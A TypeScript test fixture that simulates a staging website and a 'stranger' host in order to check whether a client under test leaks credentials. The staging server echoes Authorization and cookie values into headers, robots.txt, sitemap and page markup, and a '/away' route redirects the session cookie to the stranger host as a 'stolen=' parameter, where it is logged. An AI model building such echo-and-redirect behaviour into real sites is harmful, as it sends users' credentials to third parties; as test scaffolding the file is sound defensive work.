// Runs in the server of a test's Internet: a staging site that repeats what is sent to it wherever it can, and strangers that
// report any credentials that reach them as an event.
import { appendFileSync } from "node:fs";
import type { IncomingMessage, ServerResponse } from "node:http";
import { join } from "node:path";
import type { InternetEvent } from "./internet-world.testkit.ts";

export const STAGING_HOST = "staging.example-agency.com";
export const STRANGER_HOST = "elsewhere.example-other.com";

export function answer(request: IncomingMessage, response: ServerResponse): void {
	const isStaging = request.headers.host === STAGING_HOST && "encrypted" in request.socket;
	if (isStaging) answerAsStaging(request, response);
	else answerAsStranger(request, response);
}

function answerAsStaging(request: IncomingMessage, response: ServerResponse): void {
	const { authorization = "", cookie = "" } = request.headers;
	if (authorization === "" || cookie === "") {
		response.writeHead(401, { "www-authenticate": "Basic", "content-type": "text/html" });
		return void response.end("<!doctype html><title>Who are you?</title>");
	}
	const said = repeated(authorization, cookie);
	const path = request.url ?? "/";
	if (path === "/away") {
		response.writeHead(302, { location: `https://${STRANGER_HOST}/?stolen=${encodeURIComponent(cookie)}` });
		return void response.end();
	}
	const [type, body] = FILES[path]?.(said) ?? ["text/html; charset=utf-8", page(said)];
	const headers = {
		"content-type": type,
		"x-echo": authorization,
		"set-cookie": `again=${cookie}`,
		link: `</?${cookie}>; rel="next"`,
	};
	response.writeHead(path === "/" || FILES[path] ? 200 : 500, headers);
	response.end(body);
}

function answerAsStranger(request: IncomingMessage, response: ServerResponse): void {
	const { authorization, cookie, host = "" } = request.headers;
	const path = request.url ?? "/";
	const leaked: InternetEvent = {
		kind: "request",
		host,
		path: `CREDENTIALS ${authorization} ${cookie} ${path}`,
		userAgent: "",
	};
	if (authorization !== undefined || cookie !== undefined || path.includes("stolen=session"))
		appendFileSync(join(process.argv[2] ?? "", "events.jsonl"), `${JSON.stringify(leaked)}\n`);
	response.writeHead(200, { "content-type": "text/html; charset=utf-8" });
	response.end("<!doctype html><html lang=en><title>Elsewhere</title><p>Somebody else.</p>");
}

/** The credentials in every form that a program may write them in. */
function repeated(authorization: string, cookie: string): string[] {
	const decoded = Buffer.from(authorization.replace(/^Basic /, ""), "base64").toString();
	return [authorization, cookie, decoded, ...decoded.split(":").slice(1)].flatMap((text) => [
		text,
		encodeURIComponent(text),
		Buffer.from(text).toString("base64"),
		JSON.stringify(text),
		[...text].map((letter) => `&#${letter.charCodeAt(0)};`).join(""),
	]);
}

const FILES: Readonly<Record<string, (said: readonly string[]) => readonly [string, string]>> = {
	"/robots.txt": (said) => [
		"text/plain",
		`User-agent: *\nAllow: /\n${said.join("\n")}\nSitemap: https://${STAGING_HOST}/away\nSitemap: https://${STAGING_HOST}/sitemap.xml\n`,
	],
	"/sitemap.xml": (said) => [
		"application/xml",
		`<urlset><url><loc>https://${STAGING_HOST}/${said[1]}</loc></url></urlset>`,
	],
	"/llms.txt": (said) => ["text/markdown", `# ${said.join(" ")}\n`],
	"/.well-known/security.txt": (said) => ["text/plain", said.join("\n")],
};

function page(said: readonly string[]): string {
	const names = said.map((text) => `<meta name="description" content="${text.replaceAll('"', "&quot;")}">`).join("");
	const data = JSON.stringify({
		"@context": "https://schema.org",
		"@type": "Organization",
		name: said[1],
		[said[0] ?? ""]: said[2],
	});
	const long = "x".repeat(100);
	return `<!doctype html><html lang="${said[0]}"><head><title>${said[0]} ${said[1]} ${said[2]}</title>${names}
<script type="application/ld+json">${data}</script><script type="application/ld+json">{"name": "${said[1]}", }</script>
<link rel="canonical" href="https://${STRANGER_HOST}/${said[1]}"><link rel="alternate" type="application/rss+xml" href="/away"></head>
<body><h1>${long}${said[4]}</h1><h3>${long.slice(20)}${said[9]}</h3><a href="/away"></a><img src="/${said[1]}">
<main>${said.map((text) => `<p>${text} ${"and so on ".repeat(20)}</p>`).join("")}</main>
<a href="https://${STRANGER_HOST}/${said[1]}">elsewhere</a></body></html>`;
}
